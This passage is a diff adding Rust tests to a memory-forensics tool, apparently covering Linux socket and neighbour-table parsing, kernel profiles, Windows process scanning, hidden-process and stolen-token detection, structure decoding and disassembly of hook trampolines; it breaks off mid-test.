+fn test_linux_sockets_from_task_fd_tables() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::linux_profile::LinuxProfile;
+    use crate::netscan::linux_sockets;
+
+    let layout = |size: u64, fields: &[(&str, u64)]| StructLayout {
+        size,
+        fields: fields.iter().map(|&(name, off)| (name.to_string(), off)).collect(),
+    };
+    let mut types = KernelTypes::default();
+    types.structs.insert("task_struct".to_string(), layout(0x100, &[
+        ("__state", 0x0), ("tasks", 0x10), ("pid", 0x20), ("tgid", 0x24), ("real_parent", 0x28),
+        ("mm", 0x30), ("start_time", 0x38), ("comm", 0x40), ("files", 0x68),
+    ]));
+    types.structs.insert("mm_struct".to_string(), layout(0x80, &[("pgd", 0x50)]));
+    types.structs.insert("files_struct".to_string(), layout(0x40, &[("fdt", 0x20)]));
+    types.structs.insert("fdtable".to_string(), layout(0x10, &[("max_fds", 0x0), ("fd", 0x8)]));
+    types.structs.insert("file".to_string(), layout(0x80, &[("private_data", 0x40)]));
+    types.structs.insert("socket".to_string(), layout(0x20, &[("state", 0x0), ("type", 0x4), ("file", 0x10), ("sk", 0x18)]));
+    types.structs.insert("sock_common".to_string(), layout(0x88, &[
+        ("skc_daddr", 0x0), ("skc_rcv_saddr", 0x4), ("skc_dport", 0xC), ("skc_num", 0xE),
+        ("skc_family", 0x10), ("skc_state", 0x12), ("skc_v6_daddr", 0x38), ("skc_v6_rcv_saddr", 0x48),
+    ]));
+
+    let mut data = vec![0u8; 256 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    // init_task and nginx, linked through tasks
+    for (task, other, pid, name) in [(0x6000, 0x6200, 0u32, "swapper/0"), (0x6200, 0x6000, 0x2A0, "nginx")] {
+        data[task + 0x20..task + 0x24].copy_from_slice(&pid.to_le_bytes());
+        data[task + 0x24..task + 0x28].copy_from_slice(&pid.to_le_bytes());
+        put(&mut data, task + 0x10, kva(other + 0x10));
+        put(&mut data, task + 0x18, kva(other + 0x10));
+        data[task + 0x40..task + 0x40 + name.len()].copy_from_slice(name.as_bytes());
+    }
+    put(&mut data, 0x6200 + 0x68, kva(0x7000));
+    put(&mut data, 0x7000 + 0x20, kva(0x7100));
+    data[0x7100..0x7104].copy_from_slice(&8u32.to_le_bytes());
+    put(&mut data, 0x7108, kva(0x7200));
+
+    let put_socket = |data: &mut [u8], fd: usize, file: usize, socket: usize, sock_type: u16, sk: usize| {
+        put(data, 0x7200 + fd * 8, kva(file));
+        put(data, file + 0x40, kva(socket));
+        data[socket + 0x4..socket + 0x6].copy_from_slice(&sock_type.to_le_bytes());
+        put(data, socket + 0x10, kva(file));
+        put(data, socket + 0x18, kva(sk));
+    };
+    // fd 0 is a regular file with no private data
+    put(&mut data, 0x7200, kva(0x7400));
+    // fd 3: TCP listener on 0.0.0.0:80
+    put_socket(&mut data, 3, 0x7500, 0x7600, 1, 0x7800);
+    data[0x7800 + 0xE..0x7800 + 0x10].copy_from_slice(&80u16.to_le_bytes());
+    data[0x7800 + 0x10..0x7800 + 0x12].copy_from_slice(&2u16.to_le_bytes());
+    data[0x7800 + 0x12] = 10;
+    // fd 4: established TCPv6 connection
+    put_socket(&mut data, 4, 0x7900, 0x7A00, 1, 0x7C00);
+    data[0x7C00 + 0xC..0x7C00 + 0xE].copy_from_slice(&51000u16.to_be_bytes());
+    data[0x7C00 + 0xE..0x7C00 + 0x10].copy_from_slice(&443u16.to_le_bytes());
+    data[0x7C00 + 0x10..0x7C00 + 0x12].copy_from_slice(&10u16.to_le_bytes());
+    data[0x7C00 + 0x12] = 1;
+    data[0x7C00 + 0x38..0x7C00 + 0x48].copy_from_slice(&"2001:db8::2".parse::<std::net::Ipv6Addr>()?.octets());
+    data[0x7C00 + 0x48..0x7C00 + 0x58].copy_from_slice(&"2001:db8::1".parse::<std::net::Ipv6Addr>()?.octets());
+    // fd 5: connected UDP socket to 10.0.0.53:53
+    put_socket(&mut data, 5, 0x8100, 0x8200, 2, 0x8400);
+    data[0x8400..0x8404].copy_from_slice(&[10, 0, 0, 53]);
+    data[0x8404..0x8408].copy_from_slice(&[10, 0, 0, 5]);
+    data[0x8400 + 0xC..0x8400 + 0xE].copy_from_slice(&53u16.to_be_bytes());
+    data[0x8400 + 0xE..0x8400 + 0x10].copy_from_slice(&40000u16.to_le_bytes());
+    data[0x8400 + 0x10..0x8400 + 0x12].copy_from_slice(&2u16.to_le_bytes());
+    data[0x8400 + 0x12] = 1;
+    // fd 6: private_data points to a socket that belongs to another file
+    put(&mut data, 0x7200 + 6 * 8, kva(0x8500));
+    put(&mut data, 0x8500 + 0x40, kva(0x7600));
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("linux_sockets.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+
+    let profile = LinuxProfile {
+        release: "6.1.0-18-amd64".to_string(),
+        symbols: [("init_task".to_string(), kva(0x6000))].into_iter().collect(),
+        types,
+    };
+    let processes = LinuxProcessFinder::default().with_profile(profile.clone()).find_processes(&img, &ProgressBar::hidden())?;
+    let sockets = linux_sockets(&img, &profile.types, &processes)?;
+    let summary: Vec<_> = sockets.iter()
+        .map(|s| (s.fd, s.protocol(), format!("{}:{}", s.local, s.local_port), s.peer().map(|(a, p)| format!("{}:{}", a, p)), s.state_name()))
+        .collect();
+    assert_eq!(summary, vec![
+        (3, "TCPv4", "0.0.0.0:80".to_string(), None, "LISTEN"),
+        (4, "TCPv6", "2001:db8::1:443".to_string(), Some("2001:db8::2:51000".to_string()), "ESTABLISHED"),
+        (5, "UDPv4", "10.0.0.5:40000".to_string(), Some("10.0.0.53:53".to_string()), "CONNECTED"),
+    ]);
+    assert!(sockets.iter().all(|s| s.pid == 0x2A0 && s.process == "nginx"));
+    assert_eq!(sockets[0].sock, kva(0x7800));
+
+    // Profiles built before sockets were recorded are rejected
+    let mut old = profile.types.clone();
+    old.structs.remove("sock_common");
+    let error = linux_sockets(&img, &old, &processes).unwrap_err();
+    assert!(error.to_string().contains("sock_common.skc_family"));
+
+    Ok(())
+}
+
+#[test]
+fn test_linux_neighbor_tables_from_profile() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::linux_profile::LinuxProfile;
+    use crate::netscan::linux_neighbors;
+
+    let layout = |size: u64, fields: &[(&str, u64)]| StructLayout {
+        size,
+        fields: fields.iter().map(|&(name, off)| (name.to_string(), off)).collect(),
+    };
+    let mut types = KernelTypes::default();
+    types.structs.insert("task_struct".to_string(), layout(0x100, &[
+        ("tasks", 0x10), ("pid", 0x20), ("tgid", 0x24), ("real_parent", 0x28), ("mm", 0x30), ("start_time", 0x38), ("comm", 0x40),
+    ]));
+    types.structs.insert("mm_struct".to_string(), layout(0x80, &[("pgd", 0x50)]));
+    types.structs.insert("neigh_table".to_string(), layout(0x200, &[("nht", 0x100)]));
+    types.structs.insert("neigh_hash_table".to_string(), layout(0x20, &[("hash_buckets", 0x0), ("hash_shift", 0x8)]));
+    types.structs.insert("neighbour".to_string(), layout(0x100, &[
+        ("next", 0x0), ("nud_state", 0x30), ("ha", 0x38), ("dev", 0x58), ("primary_key", 0xF0),
+    ]));
+    types.structs.insert("net_device".to_string(), layout(0x400, &[("name", 0x0), ("addr_len", 0x20)]));
+
+    let mut data = vec![0u8; 256 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    // init_task alone on the task list, to find the slide by
+    put(&mut data, 0x6000 + 0x10, kva(0x6010));
+    data[0x6040..0x6049].copy_from_slice(b"swapper/0");
+    // eth0 and a tunnel without a 6-byte hardware address
+    data[0x7000..0x7004].copy_from_slice(b"eth0");
+    data[0x7020] = 6;
+    data[0x7400..0x7404].copy_from_slice(b"tun0");
+    data[0x7420] = 0;
+
+    // arp_tbl with 4 buckets: two entries chained in bucket 1, a tunnel entry in bucket 3
+    put(&mut data, 0x8000 + 0x100, kva(0x8400));
+    put(&mut data, 0x8400, kva(0x8500));
+    data[0x8408] = 2;
+    let put_neighbour = |data: &mut [u8], pa: usize, next: u64, state: u8, mac: [u8; 6], dev: usize, key: &[u8]| {
+        put(data, pa, next);
+        data[pa + 0x30] = state;
+        data[pa + 0x38..pa + 0x3E].copy_from_slice(&mac);
+        put(data, pa + 0x58, kva(dev));
+        data[pa + 0xF0..pa + 0xF0 + key.len()].copy_from_slice(key);
+    };
+    put(&mut data, 0x8500 + 8, kva(0x9000));
+    put_neighbour(&mut data, 0x9000, kva(0x9100), 0x02, [0x00, 0x1A, 0x2B, 0x3C, 0x4D, 0x5E], 0x7000, &[10, 0, 0, 1]);
+    put_neighbour(&mut data, 0x9100, 0, 0x04, [0x52, 0x54, 0x00, 0xAB, 0xCD, 0xEF], 0x7000, &[10, 0, 0, 20]);
+    put(&mut data, 0x8500 + 24, kva(0x9200));
+    put_neighbour(&mut data, 0x9200, 0, 0x40, [0; 6], 0x7400, &[10, 8, 0, 1]);
+    // nd_tbl with one bucket holding a permanent entry
+    put(&mut data, 0xA000 + 0x100, kva(0xA400));
+    put(&mut data, 0xA400, kva(0xA500));
+    put(&mut data, 0xA500, kva(0xB000));
+    let v6 = "fe80::1".parse::<std::net::Ipv6Addr>()?.octets();
+    put_neighbour(&mut data, 0xB000, 0, 0x80, [0x00, 0x1A, 0x2B, 0x3C, 0x4D, 0x5E], 0x7000, &v6);
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("linux_neighbors.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+
+    let profile = LinuxProfile {
+        release: "6.1.0-18-amd64".to_string(),
+        symbols: [("init_task", kva(0x6000)), ("arp_tbl", kva(0x8000)), ("nd_tbl", kva(0xA000))]
+            .into_iter().map(|(name, addr)| (name.to_string(), addr)).collect(),
+        types,
+    };
+    let slide = LinuxProcessFinder::default().with_profile(profile.clone()).kernel_slide(&img)?;
+    assert_eq!(slide, 0);
+    let neighbors = linux_neighbors(&img, &profile, slide)?;
+    let summary: Vec<_> = neighbors.iter()
+        .map(|n| (n.ip.to_string(), n.mac_string(), n.state, n.interface.as_deref()))
+        .collect();
+    assert_eq!(summary, vec![
+        ("10.0.0.1".to_string(), "00:1a:2b:3c:4d:5e".to_string(), "REACHABLE", Some("eth0")),
+        ("10.0.0.20".to_string(), "52:54:00:ab:cd:ef".to_string(), "STALE", Some("eth0")),
+        ("fe80::1".to_string(), "00:1a:2b:3c:4d:5e".to_string(), "PERMANENT", Some("eth0")),
+    ]);
+
+    Ok(())
+}
+
+#[cfg(feature = "symbols")]
+#[test]
+fn test_linux_profile_from_dwarf() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::linux_profile::{parse_system_map, profile_from_elf, LinuxProfile};
+
+    let vmlinux = linux_debug_elf(b"Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)\n\0");
+    let profile = profile_from_elf(&vmlinux, None, None)?;
+    assert_eq!(profile.release, "6.1.0-18-amd64");
+    assert_eq!(profile.symbol("init_task"), Some(0x40));
+    assert_eq!(profile.types.size("task_struct"), Some(0x2600));
+    assert_eq!(profile.types.offset("task_struct", "tasks"), Some(0x480));
+    assert_eq!(profile.types.offset("task_struct", "comm"), Some(0x738));
+    // Members of anonymous unions are flattened into the parent
+    assert_eq!(profile.types.offset("task_struct", "__state"), Some(0x18));
+    assert_eq!(profile.types.offset("task_struct", "in_execve"), Some(0x5A0));
+    assert_eq!(profile.types.offset("mm_struct", "pgd"), Some(0x50));
+    assert_eq!(profile.types.offset("list_head", "prev"), Some(8));
+
+    // Module debuginfo: release from vermagic, addresses from System.map
+    let module = linux_debug_elf(b"license=GPL\0vermagic=6.1.0-18-amd64 SMP preempt mod_unload modversions \0");
+    let map = "ffffffff81000000 T _text\nffffffff82a15940 D init_task\nffffffff8260a000 D linux_banner\nffffffff81234560 T schedule\n";
+    assert_eq!(parse_system_map(map).len(), 3);
+    let from_module = profile_from_elf(&module, Some(map), None)?;
+    assert_eq!(from_module.release, "6.1.0-18-amd64");
+    assert_eq!(from_module.symbol("init_task"), Some(0xFFFF_FFFF_82A1_5940));
+    assert_eq!(from_module.types, profile.types);
+    assert!(profile_from_elf(&linux_debug_elf(b""), None, None).is_err(), "No release anywhere");
+    assert_eq!(profile_from_elf(&linux_debug_elf(b""), None, Some("6.1.0".to_string()))?.release, "6.1.0");
+
+    // Saved under the release name and picked from a directory by the banner's release
+    let test_dir = tempdir()?;
+    profile.save(&test_dir.path().join(profile.file_name()))?;
+    let loaded = LinuxProfile::find(test_dir.path(), Some("6.1.0-18-amd64"))?;
+    assert_eq!(loaded, profile);
+    assert!(LinuxProfile::find(test_dir.path(), Some("5.10.0-28-amd64")).is_err());
+
+    let finder = LinuxProcessFinder::default().with_profile(loaded);
+    assert_eq!(finder.get_os_info().1, "6.1.0-18-amd64");
+
+    Ok(())
+}
+
+#[test]
+fn test_active_process_walk_validates_entries() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+
+    // head -> System -> corrupt entry (odd PID, stale Blink) -> lsass.exe -> head
+    let created = 133_485_408_000_000_000u64;
+    let (head, system, corrupt, lsass) = (0x6800, 0x8000, 0x9000, 0xA000);
+    put_eprocess(&mut data, system - 0x60, 4, "System", created, 0);
+    put_eprocess(&mut data, corrupt - 0x60, 3, "garbage", created, 0);
+    put_eprocess(&mut data, lsass - 0x60, 0x2A0, "lsass.exe", created, 0);
+    let chain = [head, system + 0x190, corrupt + 0x190, lsass + 0x190, head];
+    for pair in chain.windows(2) {
+        put(&mut data, pair[0], kva(pair[1]));
+        put(&mut data, pair[1] + 8, kva(pair[0]));
+    }
+    put(&mut data, corrupt + 0x190 + 8, 0);
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("walk.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+
+    // The walk is virtual, so it needs the kernel DTB
+    assert!(WindowsProcessFinder::new().find_processes(&img, &ProgressBar::hidden()).is_err());
+
+    // Without an OS context the finder locates KDBG itself
+    img.set_cr3(0x1000);
+    let processes = WindowsProcessFinder::new().find_processes(&img, &ProgressBar::hidden())?;
+    let found: Vec<_> = processes.iter().map(|p| (p.pid, p.ppid, p.name.as_str(), p.thread_count, p.dtb)).collect();
+    assert_eq!(found, vec![
+        (4, 4, "System", 3, Some(0x1AB000)),
+        (0x2A0, 4, "lsass.exe", 3, Some(0x1AB000)),
+    ]);
+    assert!(processes.iter().all(|p| p.state == ProcessState::Running && p.exit_time.is_none()));
+
+    Ok(())
+}
+
+#[test]
+fn test_psscan_separates_terminated_and_unlinked_processes() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+
+    // head -> System -> lsass.exe -> head, with two more EPROCESS allocations off the list
+    let created = 133_485_408_000_000_000u64;
+    let (head, system, lsass) = (0x6800, 0x8000, 0xA000);
+    put_eprocess(&mut data, system - 0x60, 4, "System", created, 0);
+    put_eprocess(&mut data, lsass - 0x60, 0x2A0, "lsass.exe", created, 0);
+    let chain = [head, system + 0x190, lsass + 0x190, head];
+    for pair in chain.windows(2) {
+        put(&mut data, pair[0], kva(pair[1]));
+        put(&mut data, pair[1] + 8, kva(pair[0]));
+    }
+    put_eprocess(&mut data, 0xC000, 0x1238, "dropper.exe", created, created + 600 * 10_000_000);
+    put_eprocess(&mut data, 0xE000, 0x1F0, "hidden.exe", created, 0);
+    // A valid-looking body in an allocation too small to hold it
+    put_eprocess(&mut data, 0x10000, 0x1F4, "tiny.exe", created, 0);
+    data[0x10002] = 0x20;
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("psscan.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+
+    let finder = WindowsProcessFinder::new();
+    let active = finder.find_processes(&img, &ProgressBar::hidden())?;
+    let scanned = finder.scan_remnants(&img, &ProgressBar::hidden())?;
+    let status: Vec<_> = scanned.iter().map(|p| (p.name.as_str(), scan_status(p, Some(&active)))).collect();
+    assert_eq!(status, vec![
+        ("System", ScanStatus::Active),
+        ("lsass.exe", ScanStatus::Active),
+        ("dropper.exe", ScanStatus::Terminated),
+        ("hidden.exe", ScanStatus::Unlinked),
+    ]);
+
+    // Without the active list only terminated processes can be told apart
+    let unchecked: Vec<_> = scanned.iter().map(|p| scan_status(p, None)).collect();
+    assert_eq!(unchecked, vec![ScanStatus::Unchecked, ScanStatus::Unchecked, ScanStatus::Terminated, ScanStatus::Unchecked]);
+
+    Ok(())
+}
+
+#[test]
+fn test_psxview_flags_process_missing_from_active_list() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+
+    // Active list: System and lsass.exe; hidden.exe is unlinked, dropper.exe has exited
+    let created = 133_485_408_000_000_000u64;
+    let (head, system, lsass, hidden) = (0x6800, 0x8000, 0xA000, 0xF060);
+    put_eprocess(&mut data, system - 0x60, 4, "System", created, 0);
+    put_eprocess(&mut data, lsass - 0x60, 0x2A0, "lsass.exe", created, 0);
+    put_eprocess(&mut data, hidden - 0x60, 0x1F0, "hidden.exe", created, 0);
+    put_eprocess(&mut data, 0xE000, 0x1238, "dropper.exe", created, created + 600 * 10_000_000);
+    let chain = [head, system + 0x190, lsass + 0x190, head];
+    for pair in chain.windows(2) {
+        put(&mut data, pair[0], kva(pair[1]));
+        put(&mut data, pair[1] + 8, kva(pair[0]));
+    }
+
+    // Pooled ETHREADs of lsass.exe and hidden.exe: Tcb.Process at +0x220, Cid at +0x478
+    let mut threads = Vec::new();
+    for (header, pid, tid, owner) in [(0x10000, 0x2A0, 0x2A4, lsass), (0x10600, 0x1F0, 0x1F4, hidden)] {
+        data[header + 2] = 0x54;
+        data[header + 4..header + 8].copy_from_slice(b"Thre");
+        let body = header + 0x40;
+        put(&mut data, body + 0x220, kva(owner));
+        put(&mut data, body + 0x478, pid);
+        put(&mut data, body + 0x480, tid);
+        threads.push(body);
+    }
+
+    // PspCidTable -> HANDLE_TABLE with a two-level TableCode; PIDs and TIDs share the table
+    put(&mut data, 0x7000 + 0x58, kva(0x6900));
+    put(&mut data, 0x6900, kva(0x6A00));
+    put(&mut data, 0x6A00 + 8, kva(0xC000) | 1);
+    put(&mut data, 0xC000, kva(0xD000));
+    let entry = |va: u64| ((va & 0xFFFF_FFFF_FFFF) >> 4) << 20 | 1;
+    for (handle, object) in [(4, system), (0x2A0, lsass), (0x1F0, hidden), (0x1F4, threads[1])] {
+        put(&mut data, 0xD000 + handle / 4 * 16, entry(kva(object)));
+    }
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("psxview.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+
+    let os = OsContext::find(&img, &ProgressBar::hidden()).expect("KDBG not found");
+    assert_eq!(os.psp_cid_table, Some(kva(0x6900)));
+    let views = collect_views(&img, os, None, &ProgressBar::hidden())?;
+    let pids: Vec<Vec<u32>> = views.iter().map(|v| v.iter().map(|p| p.pid).collect()).collect();
+    assert_eq!(pids[2], vec![0x2A0, 0x1F0], "Thread owners, by EPROCESS address");
+    assert_eq!(pids[3], vec![4, 0x1F0, 0x2A0], "CID table processes");
+
+    let entries = cross_view(&views);
+    let summary: Vec<_> = entries.iter().map(|e| (e.process.name.as_str(), e.seen, e.hidden(), e.inconsistent())).collect();
+    assert_eq!(summary, vec![
+        ("System", [true, true, false, true], false, true),
+        ("hidden.exe", [false, true, true, true], true, true),
+        ("lsass.exe", [true, true, true, true], false, false),
+        ("dropper.exe", [false, true, false, false], false, false),
+    ]);
+    assert!(entries[3].exited());
+
+    Ok(())
+}
+
+#[test]
+fn test_process_tree_flags_unexpected_parentage() {
+    let boot = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_700_000_000);
+    let process = |pid: u32, ppid: u32, name: &str, started: u64| Process {
+        pid,
+        ppid,
+        name: name.to_string(),
+        start_time: boot + std::time::Duration::from_secs(started),
+        exit_time: None,
+        thread_count: 1,
+        memory_usage: 0,
+        state: ProcessState::Running,
+        virtual_address: 0x1000 * pid as u64,
+        dtb: None,
+        parameters: None,
+        user: None,
+        token: None,
+        container_id: None,
+    };
+    let processes = vec![
+        process(4, 0, "System", 0),
+        process(0x1F8, 0x188, "wininit.exe", 5),
+        process(0x188, 4, "smss.exe", 1),
+        process(0x268, 0x1F8, "services.exe", 6),
+        process(0x274, 0x1F8, "lsass.exe", 6),
+        process(0x300, 0x268, "svchost.exe", 10),
+        // lsass.exe started by a user process instead of wininit.exe
+        process(0x1000, 0x1100, "explorer.exe", 60),
+        process(0x1100, 0x300, "cmd.exe", 50),
+        process(0x1200, 0x1100, "lsass.exe", 70),
+        // Parent exited; PID 0x9000 was never seen
+        process(0x1300, 0x9000, "updater.exe", 80),
+        // PID 0x1400 was reused by a process that started after its "child"
+        process(0x1400, 4, "late.exe", 200),
+        process(0x1500, 0x1400, "early.exe", 100),
+    ];
+
+    let tree = process_tree(&processes);
+    let rendered: Vec<_> = tree.iter().map(|n| (n.depth, n.process.name.as_str(), n.note.as_deref())).collect();
+    assert_eq!(rendered, vec![
+        (0, "System", None),
+        (1, "smss.exe", None),
+        (2, "wininit.exe", None),
+        (3, "services.exe", None),
+        (4, "svchost.exe", None),
+        (5, "cmd.exe", None),
+        (6, "explorer.exe", None),
+        (6, "lsass.exe", Some("unexpected parent cmd.exe (expected wininit.exe)")),
+        (3, "lsass.exe", None),
+        (1, "late.exe", None),
+        (0, "updater.exe", Some("orphaned (parent 36864 not found)")),
+        (0, "early.exe", Some("orphaned (parent 5120 not found)")),
+    ]);
+}
+
+#[test]
+fn test_token_resolves_user_and_flags_stolen_tokens() -> Result<(), Box<dyn std::error::Error>> {
+    let mut img = crate::MemoryImage::new(put_process_capture(false));
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let victim = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+
+    let token = victim.token.clone().ok_or("no token")?;
+    assert_eq!(token.address, KERNEL_VA + 0x7000, "Fast reference count is masked off");
+    assert_eq!(victim.user.as_deref(), Some("SYSTEM"));
+    assert_eq!(token.user.to_string(), "S-1-5-18");
+    assert_eq!(token.groups.iter().map(|g| g.display_name()).collect::<Vec<_>>(), ["Administrators", "S-1-16-16384"]);
+    assert_eq!(token.integrity, Some(IntegrityLevel::System));
+    assert_eq!(token.enabled_privileges(), ["SeDebugPrivilege", "SeChangeNotifyPrivilege"]);
+    assert_eq!(token.privileges_present.count_ones(), 3);
+
+    // A later process referencing System's token copied the pointer
+    let earlier = victim.start_time - std::time::Duration::from_secs(60);
+    let system = Process { pid: 4, ppid: 0, name: "System".to_string(), start_time: earlier, virtual_address: 0x7000, ..victim.clone() };
+    let anomalies = token_anomalies(&[victim.clone(), system.clone()]);
+    assert_eq!(anomalies.len(), 1);
+    assert_eq!((anomalies[0].pid, anomalies[0].reason.as_str()), (0x1F0, "shares token 0xFFFFF80000007000 with System (PID 4)"));
+
+    // SYSTEM under an ordinary user's shell
+    let user = Sid { revision: 1, authority: 5, sub_authorities: vec![21, 1, 2, 3, 1001] };
+    let explorer = Process {
+        pid: 0x100,
+        name: "explorer.exe".to_string(),
+        start_time: earlier,
+        virtual_address: 0x6000,
+        token: Some(TokenInfo { address: KERNEL_VA + 0x8000, user, groups: Vec::new(), integrity: Some(IntegrityLevel::Medium), ..token }),
+        ..victim.clone()
+    };
+    let child = Process { ppid: 0x100, ..victim };
+    let reasons: Vec<_> = token_anomalies(&[system, explorer, child]).into_iter().map(|a| a.reason).collect();
+    assert_eq!(reasons, [
+        "shares token 0xFFFFF80000007000 with System (PID 4)",
+        "runs as SYSTEM but its parent explorer.exe (PID 256) runs as S-1-5-21-1-2-3-1001",
+    ]);
+    assert_eq!(Sid::parse(&[1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 0x20, 2, 0, 0]).map(|s| s.display_name()).as_deref(), Some("Administrators"));
+    Ok(())
+}
+
+#[test]
+fn test_explain_decodes_eprocess_pe_header_and_page_tables() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(false);
+    // PE32+ header with one section in a spare kernel page
+    let pe = 0xD000;
+    data[pe..pe + 2].copy_from_slice(b"MZ");
+    data[pe + 0x3C] = 0x80;
+    data[pe + 0x80..pe + 0x84].copy_from_slice(b"PE\0\0");
+    data[pe + 0x84..pe + 0x86].copy_from_slice(&0x8664u16.to_le_bytes());
+    data[pe + 0x86] = 1;
+    data[pe + 0x94] = 0xF0;
+    data[pe + 0x98..pe + 0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    put(&mut data, pe + 0xB0, 0x1_4000_0000);
+    data[pe + 0x188..pe + 0x18D].copy_from_slice(b".text");
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let processes = finder.find_processes(&img, &ProgressBar::hidden())?;
+    let ctx = ExplainContext { img: &img, finder, processes };
+
+    // The PID field of victim.exe's EPROCESS
+    let found = explain(&ctx, 0x8000 + 0x184);
+    assert_eq!(found.len(), 1);
+    assert_eq!((found[0].structure, found[0].title.as_str(), found[0].base), ("EPROCESS", "victim.exe (PID 496)", 0x8000));
+    let field = found[0].field_at(0x8184).ok_or("no field")?;
+    assert_eq!((field.name.as_str(), field.value.as_str()), ("UniqueProcessId", "0x1F0 (496)"));
+    let token = found[0].fields.iter().find(|f| f.name == "Token").ok_or("no Token field")?;
+    assert_eq!(token.value, "object 0xFFFFF80000007000, refs 3");
+    let created = found[0].fields.iter().find(|f| f.name == "CreateTime").ok_or("no CreateTime field")?;
+    assert_eq!(created.value, "2024-01-01 00:00:00 UTC");
+
+    let header = explain(&ctx, 0xD0B0);
+    assert_eq!(header[0].structure, "PE header");
+    assert_eq!(header[0].field_at(0xD0B0).map(|f| (f.name.as_str(), f.value.as_str())), Some(("ImageBase", "0x140000000")));
+    assert_eq!(header[0].fields.last().map(|f| f.value.as_str()), Some("\".text\""));
+
+    // The PML4 entry mapping the kernel and the PTE of its second page
+    let pml4e = explain(&ctx, 0x1000 + 0x1F0 * 8);
+    assert_eq!(pml4e[0].title, "PML4E 496 = 0x0000000000002001, maps VA 0xFFFFF80000000000 (536870912 KB)");
+    let pte = explain(&ctx, 0x4008 + 7);
+    assert_eq!(pte[0].title, "PTE 1 = 0x8000000000006001, maps VA 0xFFFFF80000001000 (4 KB)");
+    assert_eq!(pte[0].field_at(0x400F).map(|f| (f.name.as_str(), f.value.as_str())), Some(("NX (bit 63)", "1")));
+
+    assert!(explain(&ctx, 0x1F000).is_empty());
+    Ok(())
+}
+
+#[cfg(feature = "disasm")]
+#[test]
+fn test_disassembler_decodes_prologues_and_hook_trampolines() {
+    use crate::disasm::{decode, disassemble};
+
+    let code = [
+        0x48, 0x89, 0x5C, 0x24, 0x08, // mov [rsp+8], rbx
+        0x55, // push rbp
+        0x48, 0x83, 0xEC, 0x20, // sub rsp, 0x20
+        0x41, 0x8B, 0x44, 0x88, 0xF0, // mov eax, [r8+rcx*4-0x10]
+        0x48, 0x8D, 0x0D, 0x10, 0x00, 0x00, 0x00, // lea rcx, [rip+0x10]
+        0x75, 0xFE, // jne to itself
+        0x0F, 0x84, 0x00, 0x01, 0x00, 0x00, // je
+        0x0F, 0xB6, 0xC1, // movzx eax, cl
+        0xF3, 0xAB, // rep stosd
+        0x0F, 0x29, 0x74, 0x24, 0x20, // movaps [rsp+0x20], xmm6
+        0xC5, 0xF8, 0x77, // vzeroupper
+        0x0F, 0x05, // syscall
+        0xC3,
+    ];
+    let text: Vec<String> = disassemble(&code, 0x1000, 100).iter().map(|i| i.text()).collect();
+    assert_eq!(text, vec![
+        "mov qword ptr [rsp + 8], rbx", "push rbp", "sub rsp, 0x20", "mov eax, dword ptr [r8 + rcx*4 - 0x10]",
+        "lea rcx, [rip + 0x10]", "jne 0x1016", "je 0x111e", "movzx eax, cl", "rep stosd dword ptr [rdi], eax",
+        "movaps xmmword ptr [rsp + 0x20], xmm6", "vzeroupper", "syscall", "ret",
+    ]);
+
+    // The trampolines an inline hook writes over a function's first bytes
+    let jmp = decode(&[0xE9, 0xFB, 0x0F, 0x00, 0x00], 0x7FF8_0000_1000).unwrap();
+    assert_eq!((jmp.mnemonic.as_str(), jmp.target, jmp.bytes.len()), ("jmp", Some(0x7FF8_0000_2000), 5));
+    let mov = decode(&[0x48, 0xB8, 0x00, 0x10, 0x41, 0x00, 0x00, 0x00, 0x00, 0x00], 0).unwrap();
+    assert_eq!((mov.text().as_str(), mov.immediate), ("movabs rax, 0x411000", Some(0x41_1000)));
+    assert_eq!(decode(&[0xFF, 0xE0], 0).unwrap().text(), "jmp rax");
